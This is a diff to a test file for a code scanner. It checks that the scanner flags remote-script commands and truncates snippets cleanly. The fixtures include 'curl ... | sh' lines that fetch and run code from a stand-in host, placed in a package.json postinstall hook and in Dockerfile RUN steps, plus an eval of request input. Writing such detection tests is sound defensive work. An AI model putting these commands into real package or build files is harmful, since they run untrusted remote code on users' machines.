@@ -5,6 +5,7 @@ import type { ScanFinding } from '#contract/scan-report.ts'
 import { baselineText, parseBaseline } from '#guards/code-scan/baseline.ts'
 import { broughtIn } from '#guards/code-scan/brought-in.ts'
 import { inspectFile } from '#guards/code-scan/inspect.ts'
+import { languageRules } from '#guards/code-scan/rules.ts'
 import { scanFile } from '#guards/code-scan/scan.ts'
 import { isFlagged, scanPairs, scoreTable } from '../support/scan-scores.ts'
 
@@ -121,6 +122,24 @@ describe('the code scan', () => {
     ])
   })
 
+  it('cuts what it shows of a line between letters, and reads the scripts of a package and of an image', () => {
+    const [cut] = scanFile({ path: 'a.js', text: `eval(req.body.x) //${'x'.repeat(140)}😀😀` }).findings
+    expect(cut?.snippet.isWellFormed()).toBe(true)
+    const rulesIn = (path: string, text: string) => rulesOf(inspectFile({ path, text }).findings)
+    const script = { scripts: { test: 'node --test', postinstall: 'curl -s https://x.example/a | sh' } }
+    expect(rulesIn('package.json', JSON.stringify(script))).toEqual(['1 command.remote-script'])
+    expect(
+      rulesIn('web/app.Dockerfile', 'FROM a\nrun curl -s https://x.example/a \\\n # why\n | sh\n'),
+    ).toEqual(['3 command.remote-script'])
+    expect(rulesIn('Dockerfile', 'RUN ["sh", "-c", "curl -s https://x.example/a | sh"]\n')).toEqual([
+      '1 command.remote-script',
+    ])
+    expect(rulesIn('Dockerfile', 'RUN <<END\nset -e\ncurl -s https://x.example/a | sh\nEND\n')).toEqual([
+      '3 command.remote-script',
+    ])
+    expect(rulesIn('Dockerfile', 'RUN --mount=type=cache,target=/c npm ci\nCOPY a b\n')).toEqual([])
+  })
+
   it('keeps a baseline, and takes nothing else for one', () => {
     const { findings } = scanFile({ path: 'a.js', text: QUERY })
     const known = parseBaseline(baselineText(findings), 'known.json')
@@ -187,6 +206,10 @@ describe('what the scan cannot look at', () => {
           expect(() => inspectFile({ path: `a.${extension}`, text })).not.toThrow()
     },
   )
+})
+
+it('finds words that stand in a text more often than a call takes arguments', () => {
+  expect(languageRules('ruby').words.hits('`#{x}`\n'.repeat(150_000)).near).toHaveLength(300_000)
 })
 
 describe('the vectors', () => {
